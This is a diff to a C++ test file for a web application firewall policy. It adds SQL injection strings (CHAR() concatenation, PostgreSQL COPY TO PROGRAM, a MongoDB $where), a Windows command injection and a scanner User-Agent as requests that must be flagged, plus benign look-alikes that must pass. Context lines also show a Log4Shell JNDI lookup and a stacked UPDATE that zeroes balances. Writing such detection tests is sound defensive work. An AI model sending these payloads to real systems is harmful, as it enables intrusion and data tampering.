@@ -298,6 +298,15 @@ TEST_CASE("policies/web.json: attacks from every set match, ordinary requests do
     // A stacked UPDATE.
     CHECK(set_hit("GET /items?id=1%3B+UPDATE+accounts+SET+balance%3D0-- HTTP/1.1\r\n") ==
           "sqli_stacked");
+    // Strings built from character codes (CHAR()||CHAR(), NCHAR()+NCHAR()); a quote closed
+    // into a comparison with a number, then a comment; PostgreSQL's COPY ... TO PROGRAM; a
+    // MongoDB $where in JavaScript's unquoted key.
+    CHECK(set_hit("GET /items?q=CHAR(97)||CHAR(100)||CHAR(109) HTTP/1.1\r\n") == "sqli");
+    CHECK(set_hit("GET /items?q=NCHAR(97)%2BNCHAR(100) HTTP/1.1\r\n") == "sqli");
+    CHECK(set_hit("GET /items?id=x%27%3D0--+- HTTP/1.1\r\n") == "sqli");
+    CHECK(set_hit("GET /items?id=1%3Bcopy+(select+%27%27)+to+program+%27id%27 HTTP/1.1\r\n") ==
+          "sqli");
+    CHECK(set_hit("POST /api HTTP/1.1\r\n\r\n{\"q\": \"true, $where: '1 == 1'\"}") == "sqli");
     // A Windows command closed by a JSON string's quote; a PHP function given a magic constant.
     CHECK(set_hit("POST /api HTTP/1.1\r\n\r\n{\"host\": \"& tasklist\"}") == "rce");
     CHECK(set_hit("GET /p?code=highlight_file(__DIR__) HTTP/1.1\r\n") == "php");
@@ -342,6 +351,9 @@ TEST_CASE("policies/web.json: attacks from every set match, ordinary requests do
     CHECK(set_hit("GET /ping?host=127.0.0.1%3Bcat+/tmp/notes.txt HTTP/1.1\r\n") == "rce");
     CHECK(set_hit("GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://203.0.113.9/a}\r\n\r\n") == "java");
     CHECK(set_hit("GET / HTTP/1.1\r\nUser-Agent: sqlmap/1.7.2#stable\r\n\r\n") == "scanners");
+    CHECK(set_hit("GET / HTTP/1.1\r\nUser-Agent: jaeles\r\n\r\n") == "scanners");
+    // A Windows environment variable, as cmd expands it in an injected command.
+    CHECK(set_hit("GET /ping?host=a%26echo+%25USERNAME%25 HTTP/1.1\r\n") == "rce");
     CHECK(set_hit("GET /index.php.bak HTTP/1.1\r\n") == "probes");
     // Tools named in the User-Agent only, and a scanner's marker path.
     CHECK(set_hit(
@@ -535,7 +547,14 @@ TEST_CASE("policies/web.json: attacks from every set match, ordinary requests do
           "process the order; it's 'x'; return it && this one\", "
           "\"code\": \"var a = 'x'; return a;\"}",
           "GET /search?q=tom+(and)+jerry+(%26)+co HTTP/1.1\r\n",
-          "GET /search?q=100%25x(2)+and+*%7Bnote%7D HTTP/1.1\r\n"})
+          "GET /search?q=100%25x(2)+and+*%7Bnote%7D HTTP/1.1\r\n",
+          // One character code in prose; a quoted setting and a hashtag; a program named in
+          // quotes; a where clause's name; a percentage sign beside a word.
+          "POST /contact HTTP/1.1\r\n\r\nmsg=use+CHAR(10)+for+a+newline%2C+chr(13)+too",
+          "GET /search?q=%22size%22%3D10+%23shoes+-+sale HTTP/1.1\r\n",
+          "POST /contact HTTP/1.1\r\n\r\nmsg=I+want+to+program+%27snake%27+(the+game)",
+          "POST /api/snippets HTTP/1.1\r\n\r\n{\"doc\": \"the $where operator, 50% off, %d items\"}",
+          "GET /search?q=5%25+temp+and+100%25 HTTP/1.1\r\n"})
         CHECK(set_hit(ok).empty());
     CHECK(p.default_limits.requests == Rate{60, 60'000'000'000ull, 20});
     CHECK(p.suspicious_limits.requests == Rate{10, 60'000'000'000ull, 5});
